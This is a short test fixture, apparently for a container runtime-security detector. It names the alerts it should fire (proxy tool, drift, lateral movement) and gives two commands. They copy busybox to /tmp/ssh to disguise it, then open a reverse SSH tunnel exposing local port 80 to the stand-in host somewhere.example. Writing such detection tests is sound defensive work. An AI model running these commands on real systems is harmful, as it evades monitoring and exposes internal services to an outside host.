# in: container
# fires: execution-proxy-tool execution-drift execution-lateral-movement
cp /bin/busybox /tmp/ssh
/tmp/ssh -fNR 8080:localhost:80 somewhere.example
